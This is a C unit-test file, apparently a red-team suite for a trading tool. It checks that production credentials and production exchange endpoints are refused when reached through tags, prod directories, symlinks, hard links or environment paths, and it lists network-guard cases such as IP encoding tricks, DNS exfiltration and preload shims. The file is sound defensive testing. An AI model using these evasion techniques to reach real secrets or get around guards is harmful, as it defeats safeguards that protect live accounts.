	ev[n > 0 ? n : 0] = '\0';
	close(pf[0]);
	cred_cleanup();
	if (rc == 0)
		RT_ESCAPE("credential %s loaded (key_id %s, secret %s)", rel, c.key_id,
			  c.secret_file);
	if (rc != -TT_EDENIED)
		print_error("rc %d trail %s\n", rc, tt_err_msg());
	assert_int_equal(rc, -TT_EDENIED);
	assert_int_equal(rt_count(ev, "\"event\":\"denied\""), 1);
	assert_non_null(strstr(ev, "\"what\":\"credential\""));
	snprintf(w, sizeof(w), "\"rule\":\"%s\"", rule);
	if (!strstr(ev, w) || !strstr(ev, target_part))
		print_error("want %s and %s in %s\n", w, target_part, ev);
	assert_non_null(strstr(ev, w));
	assert_non_null(strstr(ev, target_part));
	/* nothing of the refused credential is handed back */
	assert_string_equal(c.key_id, "");
	assert_string_equal(c.secret_file, "");
	RT_REFUSED("tt_cred_load: rule %s", rule);
}

static void test_cred_prod_tagged_by_path_is_refused(void **s)
{
	cred_setup();
	put("wt/cred.ini", CRED("env = prod\n"));
	put("wt/key.pem", "x\n");
	cred_refused("wt/cred.ini", "prod_tagged", "wt/cred.ini");
}

static void test_cred_untagged_is_refused(void **s)
{
	cred_setup();
	put("wt/cred.ini", CRED(""));
	cred_refused("wt/cred.ini", "untagged", "wt/cred.ini");
}

static void test_cred_in_prod_directory_is_refused_whatever_its_tag(void **s)
{
	cred_setup();
	put("secrets/prod/cred.ini", CRED_TESTNET);
	cred_refused("secrets/prod/cred.ini", "prod_location", "/secrets/prod/cred.ini");
}

static void test_cred_symlink_from_work_tree_to_prod_is_refused(void **s)
{
	cred_setup();
	put("production/cred.ini", CRED_TESTNET);
	link_to("production/cred.ini", "wt/cred.ini");
	/* the event names the resolved file, not the innocent-looking link */
	cred_refused("wt/cred.ini", "prod_location", "/production/cred.ini");
}

static void test_cred_secret_file_symlink_into_prod_is_refused(void **s)
{
	cred_setup();
	put("wt/cred.ini", CRED("env = testnet\n"));
	assert_int_equal(unlink(strcat(strcpy((char[PATH_MAX]){0}, tmpdir), "/wt/key.pem")), 0);
	link_to("secrets/prod/key.pem", "wt/key.pem");
	cred_refused("wt/cred.ini", "prod_location", "/secrets/prod/key.pem");
}

static void test_cred_prod_file_name_is_refused(void **s)
{
	cred_setup();
	put("wt/binance.prod.ini", CRED_TESTNET);
	cred_refused("wt/binance.prod.ini", "prod_location", "binance.prod.ini");
}

static void hard_link(const char *target_rel, const char *link_rel)
{
	char t[PATH_MAX];
	char l[PATH_MAX];

	snprintf(t, sizeof(t), "%s/%s", tmpdir, target_rel);
	snprintf(l, sizeof(l), "%s/%s", tmpdir, link_rel);
	unlink(l);
	assert_int_equal(link(t, l), 0);
}

/* realpath() cannot see through a hard link: the work-tree name is the only one it
 * returns, so the location rule alone would pass the prod key */
static void test_cred_secret_file_hard_link_to_prod_key_is_refused(void **s)
{
	cred_setup();
	put("wt/cred.ini", CRED_TESTNET);
	hard_link("secrets/prod/key.pem", "wt/key.pem");
	cred_refused("wt/cred.ini", "hard_linked", "/wt/key.pem");
}

static void test_cred_hard_link_to_prod_credential_is_refused(void **s)
{
	cred_setup();
	put("production/cred.ini", CRED_TESTNET);
	hard_link("production/cred.ini", "wt/cred.ini");
	cred_refused("wt/cred.ini", "hard_linked", "/wt/cred.ini");
}

static void test_cred_path_from_environment_is_refused(void **s)
{
	const char *p;

	cred_setup();
	put("wt/from-env.ini", CRED("env = prod\n"));
	setenv("TT_CRED_FILE", "wt/from-env.ini", 1);
	p = getenv("TT_CRED_FILE");
	cred_refused(p, "prod_tagged", "from-env.ini");
}

static void test_control_testnet_cred_in_work_tree_loads(void **s)
{
	struct tt_cred c;
	char p[PATH_MAX];

	cred_setup();
	put("wt/cred.ini", CRED_TESTNET);
	snprintf(p, sizeof(p), "%s/wt/cred.ini", tmpdir);
	assert_int_equal(tt_cred_load(&c, p), 0);
	assert_string_equal(c.key_id, "k1");
	cred_cleanup();
	RT_REFUSED("control: a testnet credential loads (the refusals are not blanket)");
}

/* ---- the case table -------------------------------------------------------------------- */

struct rt_case {
	const char *name;  /* ctest name suffix, also the result file */
	const char *layer; /* the layer that must stop it */
	void (*fn)(void **);
};

/* One line per case: CMake reads the names from the RT_CASE lines below. */
#define RT_CASE(n, layer)                                                                          \
	{                                                                                          \
#n, layer, test_##n                                                                \
	}
static const struct rt_case cases[] = {
    RT_CASE(ws_to_stream_binance_com_is_refused, "run:guard"),
    RT_CASE(ws_to_ws_api_binance_com_is_refused, "run:guard"),
    RT_CASE(https_to_api_binance_com_is_refused, "run:guard"),
    RT_CASE(https_to_demo_api_binance_com_is_refused, "run:guard"),
    RT_CASE(https_to_api_binance_us_is_refused, "run:guard"),
    RT_CASE(https_to_data_api_binance_vision_is_refused, "run:guard"),
    RT_CASE(ws_to_kalshi_com_is_refused, "run:guard"),
    RT_CASE(https_to_kalshi_com_mixed_case_trailing_dot_is_refused, "run:guard"),
    RT_CASE(ip_dotted_quad_is_refused, "run:guard"),
    RT_CASE(ip_decimal_integer_is_refused, "run:guard"),
    RT_CASE(ip_octal_parts_are_refused, "run:guard"),
    RT_CASE(ip_hex_parts_are_refused, "run:guard"),
    RT_CASE(ip_hex_integer_is_refused, "run:guard"),
    RT_CASE(ip_short_two_part_is_refused, "run:guard"),
    RT_CASE(ip_short_three_part_is_refused, "run:guard"),
    RT_CASE(ip_mixed_radix_is_refused, "run:guard"),
    RT_CASE(ipv6_literal_is_refused, "run:guard"),
    RT_CASE(ipv6_v4_mapped_dotted_is_refused, "run:guard"),
    RT_CASE(ipv6_v4_mapped_hex_is_refused, "run:guard"),
    RT_CASE(ipv6_v4_compatible_is_refused, "run:guard"),
    RT_CASE(ipv6_zone_id_is_refused, "run:guard"),
    RT_CASE(dns_lookup_of_prod_names_sends_no_query, "run:guard"),
    RT_CASE(dns_exfil_under_lookalike_suffix_is_refused, "run:guard"),
    RT_CASE(dns_exfil_overlong_label_is_refused, "run:guard"),
    RT_CASE(hostname_built_from_fragments_is_refused, "run:guard"),
    RT_CASE(hostname_from_environment_is_refused, "run:guard"),
    RT_CASE(unicode_fullwidth_dot_is_refused, "run:guard"),
    RT_CASE(config_with_prod_venue_url_is_refused_at_start, "run:guard"),
    RT_CASE(config_url_with_userinfo_trick_is_refused, "run:config+guard"),
    RT_CASE(dns_search_domain_env_cannot_append_a_suffix, "run:resolver"),
    RT_CASE(hosts_file_steering_to_documentation_ip_is_refused, "run:resolver+guard"),
    RT_CASE(flavor_env_switch_has_no_effect, "compile:flavor+run:guard"),
    RT_CASE(config_flavor_prod_is_refused, "run:config"),
    RT_CASE(preload_shim_replacing_the_guard_has_no_effect, "link:hidden+run:guard"),
    RT_CASE(preload_shim_of_libc_string_calls_cannot_flip_a_rule, "run:guard"),
    RT_CASE(preload_shim_of_memcpy_cannot_rewrite_the_lookup, "run:guard"),
    RT_CASE(preload_getaddrinfo_steering_to_documentation_ip_is_refused, "run:guard"),
    RT_CASE(cred_prod_tagged_by_path_is_refused, "run:cred"),
    RT_CASE(cred_untagged_is_refused, "run:cred"),
    RT_CASE(cred_in_prod_directory_is_refused_whatever_its_tag, "run:cred"),
    RT_CASE(cred_symlink_from_work_tree_to_prod_is_refused, "run:cred"),
    RT_CASE(cred_secret_file_symlink_into_prod_is_refused, "run:cred"),
    RT_CASE(cred_prod_file_name_is_refused, "run:cred"),
    RT_CASE(cred_secret_file_hard_link_to_prod_key_is_refused, "run:cred"),
    RT_CASE(cred_hard_link_to_prod_credential_is_refused, "run:cred"),
    RT_CASE(cred_path_from_environment_is_refused, "run:cred"),
    RT_CASE(control_counters_see_a_raw_connect, "control"),
    RT_CASE(control_testnet_cred_in_work_tree_loads, "control"),
};

int main(int argc, char **argv)
{
	const struct rt_case *c = NULL;
	struct CMUnitTest t[1];
	int rc;

	if (argc == 4 && strcmp(argv[1], "--attempt-ws") == 0) {
		/* one tt_wsconn connect in this process, no namespace of ours (run inside
		 * tt-sandbox): 0 when the connection opened, 1 when something refused it */
		struct ns_out o = {0};
		int arc = att_ws(argv[2], (uint16_t)atoi(argv[3]), &o);

		printf("attempt %s:%s: start rc %d, %s\n", argv[2], argv[3], arc, o.extra);
		printf("down reason %d (%s)\n", down_reason,
		       down_reason < 0 ? tt_strerror(down_reason) : "none");
		return tt_conn_state(&ws.conn) == TT_CONN_OPEN ? 0 : 1;
	}
	if (argc == 2 && strcmp(argv[1], "--list") == 0) {
		for (size_t i = 0; i < TT_ARRAY_LEN(cases); i++)
			printf("%s\t%s\n", cases[i].name, cases[i].layer);
		return 0;
	}
	for (size_t i = 0; argc == 2 && i < TT_ARRAY_LEN(cases); i++)
		if (strcmp(argv[1], cases[i].name) == 0)
			c = &cases[i];
	if (!c) {
		fprintf(stderr, "usage: rt_net --list | rt_net CASE\n");
		return 2;
	}
	t[0] = (struct CMUnitTest){c->name, c->fn, NULL, NULL, NULL};
	rc = _cmocka_run_group_tests("redteam", t, 1, NULL, NULL);
	if (strcmp(rt_outcome, "skipped") == 0) {
		rt_record(c->name, "skipped", c->layer, rt_detail);
		return RT_SKIP_RC;
	}
	if (rc == 0 && strcmp(rt_outcome, "refused") == 0) {
		rt_record(c->name, "refused", c->layer, rt_detail);
		printf("REFUSED [%s] %s: %s\n", c->layer, c->name, rt_detail);
		return 0;
	}
	rt_record(c->name, strcmp(rt_outcome, "escaped") == 0 ? "escaped" : "error", c->layer,
		  rt_detail);
	printf("%s [%s] %s: %s\n", strcmp(rt_outcome, "escaped") == 0 ? "ESCAPED" : "ERROR",
	       c->layer, c->name, rt_detail);
	return 1;
}
